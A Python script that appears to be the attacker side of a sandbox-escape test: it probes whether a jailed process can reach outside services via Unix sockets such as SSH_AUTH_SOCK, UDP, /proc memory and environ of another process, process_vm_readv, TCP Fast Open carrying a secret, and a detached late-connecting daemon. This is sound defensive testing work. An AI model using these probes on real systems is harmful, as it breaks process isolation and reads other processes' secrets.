#!/usr/bin/env python3
# reach_probe.py - the attacker's side of 383-outside-reach: each way to a
# process or service outside the jail (an abstract Unix socket, a path
# socket such as SSH_AUTH_SOCK, a UDP datagram, /proc/PID/mem and environ
# of an outside process, process_vm_readv, TCP Fast Open data in the SYN,
# a setsid'd double-forked daemon that connects after the command ended).
# Prints "NAME OPEN ..." or "NAME held: ...".
# usage: reach_probe.py TCPPORT UDPPORT OUTSIDEPID SOCKPATH ABSTRACTNAME SECRET
import os, socket, sys, time, ctypes
port, udpport, outpid, upath, aname, secret = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6].encode()
def t(name, f):
    try:
        r = f(); print(name, "OPEN", r)
    except Exception as e:
        print(name, "held:", type(e).__name__, e)
def abstract():
    s = socket.socket(socket.AF_UNIX); s.connect("\0" + aname); s.sendall(b"abstract-leak"); return "sent"
def pathsock():
    s = socket.socket(socket.AF_UNIX); s.connect(upath); s.sendall(b"path-leak"); return "sent"
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendmsg([b"udp-leak"], [], 0, ("127.0.0.1", udpport)); return "sent"
def mem():
    f = open("/proc/%d/mem" % outpid, "r+b"); return "opened"
def environ():
    return open("/proc/%d/environ" % outpid, "rb").read()[:20]
def pvm():
    libc = ctypes.CDLL(None, use_errno=True)
    class iov(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("l", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(8); l = iov(ctypes.addressof(buf), 8); r = iov(0x400000, 8)
    n = libc.process_vm_readv(outpid, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)
    if n < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return "read %d" % n
def fastopen():
    s = socket.socket(); s.sendto(b"tfo-" + secret, 0x20000000, ("127.0.0.1", port)); return "sent"
for n, f in [("abstract", abstract), ("pathsock", pathsock), ("udp", udp), ("mem", mem), ("environ", environ), ("pvm", pvm), ("fastopen", fastopen)]:
    t(n, f)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.0)
        try:
            s = socket.create_connection(("127.0.0.1", port)); s.sendall(b"late-daemon"); 
        except Exception as e:
            pass
        os._exit(0)
    os._exit(0)
print("parent exits")
